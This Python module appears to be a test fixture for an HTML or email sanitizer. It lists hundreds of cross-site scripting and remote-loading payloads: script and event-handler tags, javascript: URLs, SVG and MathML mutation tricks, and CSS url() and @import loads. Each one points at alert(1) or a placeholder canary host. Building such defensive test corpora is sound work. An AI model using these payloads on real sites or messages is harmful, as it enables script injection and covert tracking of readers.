"""Letters that want more than to be read: every line of the security notes on content and remote loading, and more.

CANARY stands for an address that must never be asked for, and the script for one that must never run.
"""

from collections.abc import Iterator

CANARY = "http://canary.invalid/hit"
RUN = "alert(1)"

SCRIPTS = [
    f"<script>{RUN}</script>", f"<script src={CANARY}></script>", f"<SCRIPT/SRC={CANARY}></SCRIPT>", f"<script\x0c>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x\tonerror\n=\n{RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//",
    f"<body onload={RUN}>", f"<body background={CANARY}>", f"<details open ontoggle={RUN}>x</details>", f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN} src=x></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}'>x</a>", f"<a href='jav&#x09;ascript:{RUN}'>x</a>", f"<a href='&#1;javascript:{RUN}'>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a>", f"<a href='JaVaScRiPt:{RUN}'>x</a>", f"<a href='vbscript:{RUN}'>x</a>", f"<a href=' javascript&colon;{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    f"<area href='javascript:{RUN}'>", f"<map name=m><area shape=default href='javascript:{RUN}'></map><img usemap=#m src=x>",
    f"<form action='javascript:{RUN}'><button>x</button></form>", f"<button formaction='javascript:{RUN}'>x</button>",
    f"<iframe src='javascript:{RUN}'></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>", f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<meta http-equiv=refresh content='0;url={CANARY}'>",
    f"<base href='javascript:{RUN}//'><a href=x>x</a>", f"<isindex action='javascript:{RUN}'>", f"<keygen onfocus={RUN} autofocus>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>", f"<math href='javascript:{RUN}'>x</math>",
    f"<x contenteditable onblur={RUN}>x</x>", f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>", f"<title><img title='</title><img src=x onerror={RUN}>'></title>",
    f"<xmp><img title='</xmp><img src=x onerror={RUN}>'></xmp>", f"<noembed><img title='</noembed><img src=x onerror={RUN}>'></noembed>",
    f"<style><img title='</style><img src=x onerror={RUN}>'></style>", f"<plaintext><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>",
    f"<!--><script>{RUN}</script>-->", f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->", f"<!--<img src='--><img src=x onerror={RUN}>'>",
    f"<? xml version='1.0' ?><script>{RUN}</script>", f"<?xml-stylesheet href='javascript:{RUN}'?>", f"<!DOCTYPE html [<!ENTITY x '<script>{RUN}</script>'>]>&x;",
    f"<img src=\"x\"onerror=\"{RUN}\">", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<a\x00href='javascript:{RUN}'>x</a>",
    f"<script\x00>{RUN}</script>", f"<img src=`x`onerror={RUN}>", f"<p style='x:expression({RUN})'>x</p>", f"<p style='-moz-binding:url({CANARY})'>x</p>",
    f"<p style='behavior:url({CANARY})'>x</p>", f"<link rel=import href={CANARY}>", f"<a href='//{RUN}' onclick={RUN}>x</a>", f"<a target=_top href='{CANARY}' ping='{CANARY}'>x</a>",
    f"[<script>{RUN}</script>] {CANARY}", f"<a href=\"mailto:x@y.test?subject='><script>{RUN}</script>\">x</a>",
]  # fmt: skip
SVG = [
    f"<svg><script>{RUN}</script></svg>", f"<svg><script xlink:href={CANARY} /></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate attributeName=href values='javascript:{RUN}' /></svg>", f"<svg><a><animate attributeName=href from='javascript:{RUN}' begin=0s dur=1s /><text>x</text></a></svg>",
    f"<svg><set attributeName=onmouseover to={RUN} /></svg>", f"<svg><use href='{CANARY}#x' /></svg>", "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x' /></svg>",
    f"<svg><image href={CANARY} /></svg>", f"<svg><feImage href={CANARY} /></svg>", f"<svg><filter id=f><feImage xlink:href={CANARY} /></filter></svg>",
    f"<svg><rect fill='url({CANARY}#x)' /></svg>", f"<svg><animate attributeName=fill values='url({CANARY}#a)' /></svg>", f"<svg><animate attributeName=filter to='url({CANARY}#a)' /></svg>",
    f"<svg><animate attributeName=style to='background:url({CANARY})' /></svg>", f"<svg><animate attributeName=stroke to='url({CANARY})' /></svg>",
    f"<svg><style>*{{background:url({CANARY})}}</style></svg>", f"<svg><style>@import '{CANARY}';</style></svg>", f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><desc><img src=x onerror={RUN}></desc></svg>", f"<svg><title><img src=x onerror={RUN}></title></svg>", f"<svg><style><img title='</style><img src=x onerror={RUN}>'></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'></table></mtext></math>",
    f"<math><mtext><table><mglyph><style><math><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}></style></mglyph></form></mtext></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'></svg>", f"<math></br><style><img src=x onerror={RUN}></style></math>",
    f"<svg><p><style><g title='</style><img src=x onerror={RUN}>'></svg>", f"<math><annotation-xml encoding='text/html'><script>{RUN}</script></annotation-xml></math>",
    f"<svg><![CDATA[><image xlink:href=']]><img src=x onerror={RUN}//'></svg>", f"<svg><discard onbegin={RUN} /></svg>", f"<svg><handler type='text/javascript'>{RUN}</handler></svg>",
]  # fmt: skip
REMOTE = [
    f"<img src={CANARY} alt=x>", f"<img srcset='{CANARY} 2x' alt=x>", f"<img lowsrc={CANARY}>", f"<img dynsrc={CANARY}>", f"<image src={CANARY}>", f"<picture><source srcset={CANARY}><img></picture>",
    f"<video src={CANARY} autoplay></video>", f"<video poster={CANARY}></video>", f"<video><track default src={CANARY}></video>", f"<audio src={CANARY} autoplay></audio>",
    f"<input type=image src={CANARY}>", f"<iframe src={CANARY}></iframe>", f"<frameset><frame src={CANARY}></frameset>", f"<object data={CANARY}></object>", f"<embed src={CANARY}>",
    f"<applet code={CANARY} codebase={CANARY}></applet>", f"<link rel=stylesheet href={CANARY}>", f"<link rel=prefetch href={CANARY}>", f"<link rel=preload as=image href={CANARY}>",
    f"<link rel=dns-prefetch href={CANARY}>", f"<link rel=preconnect href={CANARY}>", f"<link rel=icon href={CANARY}>", f"<link rel=modulepreload href={CANARY}>", f"<link rel=manifest href={CANARY}>",
    f"<table background={CANARY}><tr><td background={CANARY}>x</table>", f"<base href={CANARY}/><img src=x>", f"<html manifest={CANARY}>", f"<head profile={CANARY}></head>",
    f"<q cite={CANARY}>x</q>", f"<blockquote cite={CANARY}>x</blockquote>", f"<img longdesc={CANARY}>", f"<img usemap={CANARY}>", f"<menuitem icon={CANARY}>", f"<command icon={CANARY}>",
    f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{CANARY}\"]}}]}}</script>", f"<meta http-equiv=Link content='<{CANARY}>; rel=preload'>", f"<meta http-equiv=set-cookie content=a=b><img src={CANARY}>",
    f"<img src='\\\\{CANARY[7:]}'>", f"<img src='/\\{CANARY[7:]}'>", f"<img src='//{CANARY[7:]}'>", f"<img src='ht\ntp://{CANARY[7:]}'>", f"<img src=' &#x01;{CANARY}'>", f"<img src='HTTP:{CANARY[5:]}'>",
    f"<bgsound src={CANARY}>", f"<layer src={CANARY}></layer>", f"<xml src={CANARY}></xml>", f"<portal src={CANARY}></portal>", f"<fencedframe src={CANARY}></fencedframe>",
    f"<form action={CANARY}><input autofocus></form>", f"<img src=data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%3E%3Cimage%20href='{CANARY}'/%3E%3C/svg%3E>",
]  # fmt: skip
CSS = [
    f"background:url({CANARY})", f"background:url('{CANARY}')", f"background:URL({CANARY})", f"background:u\\rl({CANARY})", f"background:\\75rl({CANARY})", f"background:\\000075\\000072\\00006c({CANARY})",
    f"background:url(\"{CANARY}", f"background:url({CANARY}", f"background-image:image-set('{CANARY}' 1x)", f"background-image:-webkit-image-set(url({CANARY}) 1x)", f"background:image('{CANARY}')",
    f"background:cross-fade(url({CANARY}),url({CANARY}),50%)", f"--x:url({CANARY});background:var(--x)", f"background:src('{CANARY}')", f"list-style:url({CANARY})", f"list-style-image:url({CANARY})",
    f"content:url({CANARY})", f"cursor:url({CANARY}),auto", f"border-image:url({CANARY}) 1", f"border-image-source:url({CANARY})", f"mask:url({CANARY})", f"mask-image:url({CANARY})", f"-webkit-mask:url({CANARY})",
    f"filter:url({CANARY}#f)", f"backdrop-filter:url({CANARY}#f)", f"clip-path:url({CANARY}#c)", f"shape-outside:url({CANARY})", f"offset-path:url({CANARY})", f"fill:url({CANARY})", f"src:url({CANARY})",
    f"color:red;/*url(*/background:url({CANARY})/*)*/", f"color:red}}*{{background:url({CANARY})", f"background:url(/**/{CANARY})", f"background:url(\n{CANARY}\n)", f"background:attr(x url,url({CANARY}))",
    f"font:12px x;}}@font-face{{font-family:x;src:url({CANARY})", f"background:element(#x) url({CANARY})", f"-moz-binding:url({CANARY})", f"behavior:url({CANARY})", f"width:expression({RUN})",
    f"background:&#117;rl({CANARY})", f"background:u&#92;rl({CANARY})", f"background:linear-gradient(red,blue),url({CANARY})", f"background:paint(x,url({CANARY}))", f"background:image-set(url({CANARY}) type('image/png'))",
    "position:fixed!important;inset:0;z-index:2147483647", "position:absolute;top:-9999px", "position:/**/fixed;top:0", "margin-top:-9999px", "animation:x 1s infinite", "transform:scale(99)",
]  # fmt: skip
SHEETS = [
    f"@import '{CANARY}';", f"@import url({CANARY});", f"@im\\port url({CANARY});", f"@font-face{{font-family:x;src:url({CANARY})}}*{{font-family:x}}", f"@namespace x url({CANARY});",
    f"@charset 'utf-7';@import '{CANARY}';", f"@media all{{@import '{CANARY}';*{{background:url({CANARY})}}}}", f"@supports (color:red){{*{{background:url({CANARY})}}}}", f"@layer x{{*{{background:url({CANARY})}}}}",
    f"@container (width>0){{*{{background:url({CANARY})}}}}", f"@document url({CANARY}){{*{{color:red}}}}", f"@page{{background:url({CANARY})}}", f"@property --x{{syntax:'<url>';initial-value:url({CANARY})}}",
    f"@keyframes k{{from{{background:url({CANARY})}}}}*{{animation:k 1s}}", f"p{{&{{background:url({CANARY})}}}}", f"p{{color:red;a{{background:url({CANARY})}}}}", f"[title^=a]{{background:url({CANARY})}}",
    f"p::before{{content:url({CANARY})}}", f"*{{background:url({CANARY})}}", f"--><style>*{{background:url({CANARY})}}", f"<!-- *{{background:url({CANARY})}} -->", f"</style><img src=x onerror={RUN}>", f"p[title='</style><script>{RUN}</script>']{{color:red}}",
    f"@counter-style x{{system:cyclic;symbols:url({CANARY})}}*{{list-style:x}}", f"@view-transition{{navigation:auto}}*{{background:url({CANARY})}}", f"@color-profile x{{src:url({CANARY})}}", f"@font-palette-values --x{{base-palette:0;override-colors:url({CANARY})}}",
]  # fmt: skip


def vectors() -> Iterator[str]:
    """Each by itself, and the shorter ones again inside what makes parsers disagree."""
    yield from SCRIPTS
    yield from SVG
    yield from REMOTE
    for declaration in CSS:
        quoted = declaration.replace('"', "&quot;")
        yield f'<p style="{quoted}">x</p>'
        yield f"<style>p{{{declaration}}}</style><p>x</p>"
    for sheet in SHEETS:
        yield f"<style>{sheet}</style><p title=a>x</p>"
    for inner in [*SCRIPTS[:24], *SVG[:16], *REMOTE[:12]]:
        yield f"<table><tr><td><svg><![CDATA[{inner}]]></svg>{inner}</table>"
        yield f"<div title='{inner.replace(chr(39), chr(34))}'>{inner.upper() if 'HTTP' not in inner else inner}</div>"


ALL = list(dict.fromkeys(vectors()))
